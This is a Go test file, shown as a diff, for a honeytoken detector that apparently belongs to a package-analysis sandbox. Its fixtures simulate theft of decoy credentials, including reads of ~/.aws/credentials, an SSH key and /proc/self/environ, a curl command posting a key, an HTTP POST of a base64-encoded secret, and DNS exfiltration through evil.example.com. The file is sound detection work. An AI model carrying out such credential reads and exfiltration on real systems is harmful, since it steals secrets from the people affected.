@@ -0,0 +1,158 @@
+package honeytoken
+
+import (
+	"encoding/base64"
+	"errors"
+	"net"
+	"reflect"
+	"testing"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
+)
+
+func tcpPacket(t *testing.T, dst string, port int, payload []byte) gopacket.Packet {
+	t.Helper()
+	ip := &layers.IPv4{
+		Version:  4,
+		TTL:      64,
+		Protocol: layers.IPProtocolTCP,
+		SrcIP:    net.ParseIP("10.0.0.2"),
+		DstIP:    net.ParseIP(dst),
+	}
+	tcp := &layers.TCP{SrcPort: 40000, DstPort: layers.TCPPort(port), PSH: true, ACK: true}
+	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
+		t.Fatal(err)
+	}
+	buf := gopacket.NewSerializeBuffer()
+	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
+	if err := gopacket.SerializeLayers(buf, opts, ip, tcp, gopacket.Payload(payload)); err != nil {
+		t.Fatal(err)
+	}
+	return gopacket.NewPacket(buf.Bytes(), layers.LayerTypeIPv4, gopacket.Default)
+}
+
+func TestFindings(t *testing.T) {
+	aws := Token{Kind: AWSCredentials, Location: "/root/.aws/credentials", Value: "AwsSecretKeyValue1234"}
+	npm := Token{Kind: EnvToken, Location: "NPM_TOKEN", Value: "npm_TokenValue5678"}
+	ssh := Token{Kind: SSHKey, Location: "/root/.ssh/id_rsa", Value: "SshKeyLineValue"}
+	kube := Token{Kind: Kubeconfig, Location: "/root/.kube/config", Value: "KubeTokenValue"}
+	s := &Set{Tokens: []Token{aws, npm, ssh, kube}}
+
+	scanner := s.NewScanner()
+	packets := []gopacket.Packet{
+		tcpPacket(t, "203.0.113.7", 443, []byte("POST /collect HTTP/1.1\r\n\r\nkey="+base64.StdEncoding.EncodeToString([]byte("x"+aws.Value)))),
+		tcpPacket(t, "203.0.113.7", 443, []byte("GET / HTTP/1.1\r\n\r\n")),
+	}
+	for _, p := range packets {
+		scanner.Receive(p.Layer(layers.LayerTypeTCP), p)
+	}
+
+	strace := &analysisrun.StraceSummary{
+		Files: []analysisrun.FileResult{
+			{Path: "/home/dev/.aws/credentials", Read: true},
+			{Path: "/root/.ssh/id_rsa", Read: true},
+			{Path: "/proc/self/environ", Read: true},
+			{Path: "/root/.kube/config", Write: true},
+			{Path: "/tmp/out", Write: true},
+		},
+		Commands: []analysisrun.CommandResult{
+			{Command: []string{"node", "index.js"}, Environment: []string{"NPM_TOKEN=" + npm.Value}},
+			{Command: []string{"curl", "-d", ssh.Value, "https://example.com"}},
+		},
+		DNS: []analysisrun.DNSResult{{Class: "IN", Queries: []analysisrun.DNSQueries{
+			{Hostname: "6e706d5f546f6b656e56616c.7565353637380a.evil.example.com"},
+		}}},
+	}
+	writes := analysisrun.FileWritesSummary{
+		{Path: "/tmp/out", WriteInfo: []analysisrun.WriteInfo{{WriteBufferId: "buf1"}, {WriteBufferId: "missing"}}},
+	}
+	readWriteBuffer := func(id string) ([]byte, error) {
+		if id == "buf1" {
+			return []byte("stolen: " + kube.Value), nil
+		}
+		return nil, errors.New("not found")
+	}
+
+	got := s.Findings(analysisrun.DynamicPhaseImport, Observations{
+		Strace:          strace,
+		FileWrites:      writes,
+		ReadWriteBuffer: readWriteBuffer,
+		Network:         scanner,
+	})
+	want := []analysisrun.HoneytokenFinding{
+		{Kind: "aws-credentials", Location: aws.Location, Phase: analysisrun.DynamicPhaseImport, Accesses: []analysisrun.HoneytokenAccess{
+			{Type: analysisrun.HoneytokenRead, Detail: "/home/dev/.aws/credentials"},
+			{Type: analysisrun.HoneytokenExfiltrated, Detail: "203.0.113.7:443"},
+		}},
+		{Kind: "env-token", Location: "NPM_TOKEN", Phase: analysisrun.DynamicPhaseImport, Accesses: []analysisrun.HoneytokenAccess{
+			{Type: analysisrun.HoneytokenRead, Detail: "/proc/self/environ"},
+			{Type: analysisrun.HoneytokenExfiltrated, Detail: "DNS lookup of 6e706d5f546f6b656e56616c.7565353637380a.evil.example.com"},
+		}},
+		{Kind: "ssh-key", Location: ssh.Location, Phase: analysisrun.DynamicPhaseImport, Accesses: []analysisrun.HoneytokenAccess{
+			{Type: analysisrun.HoneytokenRead, Detail: "/root/.ssh/id_rsa"},
+			{Type: analysisrun.HoneytokenCopied, Detail: `arguments of "curl -d SshKeyLineValue https://example.com"`},
+		}},
+		{Kind: "kubeconfig", Location: kube.Location, Phase: analysisrun.DynamicPhaseImport, Accesses: []analysisrun.HoneytokenAccess{
+			{Type: analysisrun.HoneytokenCopied, Detail: "/tmp/out"},
+		}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Findings() = %+v; want %+v", got, want)
+	}
+}
+
+func TestFindingsAttributeReads(t *testing.T) {
+	npmrc := Token{Kind: NPMToken, Location: "/root/.npmrc", Value: "npm_NpmrcTokenValue"}
+	aws := Token{Kind: AWSCredentials, Location: "/root/.aws/credentials", Value: "AwsSecretKeyValue1234"}
+	s := &Set{Tokens: []Token{npmrc, aws}}
+
+	// npm reads ~/.npmrc itself, and an install script reads the AWS credentials
+	strace := &analysisrun.StraceSummary{
+		Files: []analysisrun.FileResult{
+			{Path: "/root/.npmrc", Read: true},
+			{Path: "/root/.aws/credentials", Read: true},
+		},
+	}
+	activity := []analysisrun.PackageActivity{
+		{Name: "evil", Version: "1.0.0", Files: []string{"/app/node_modules/evil/install.js", "/root/.aws/credentials"}},
+	}
+
+	got := s.Findings(analysisrun.DynamicPhaseInstall, Observations{
+		Strace:          strace,
+		AttributeReads:  true,
+		PackageActivity: activity,
+	})
+	want := []analysisrun.HoneytokenFinding{
+		{Kind: "aws-credentials", Location: aws.Location, Phase: analysisrun.DynamicPhaseInstall, Accesses: []analysisrun.HoneytokenAccess{
+			{Type: analysisrun.HoneytokenRead, Detail: "/root/.aws/credentials"},
+		}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Findings() = %+v; want %+v", got, want)
+	}
+
+	// without attribution, every read is counted
+	got = s.Findings(analysisrun.DynamicPhaseImport, Observations{Strace: strace, PackageActivity: activity})
+	if len(got) != 2 {
+		t.Errorf("Findings() = %+v; want findings for both tokens", got)
+	}
+}
+
+func TestEncodings(t *testing.T) {
+	value := "secret-value/123"
+	for _, prefix := range []string{"", "a", "ab", "abc"} {
+		encoded := base64.StdEncoding.EncodeToString([]byte(prefix + value + "tail"))
+		if !containsToken([]byte(encoded), encodings(value)) {
+			t.Errorf("base64 encoding with prefix %q not found: %s", prefix, encoded)
+		}
+	}
+	if !containsToken([]byte("v=secret-value%2F123"), encodings(value)) {
+		t.Errorf("URL encoding not found")
+	}
+	if containsToken([]byte("secret-value"), encodings(value)) {
+		t.Errorf("part of value found")
+	}
+}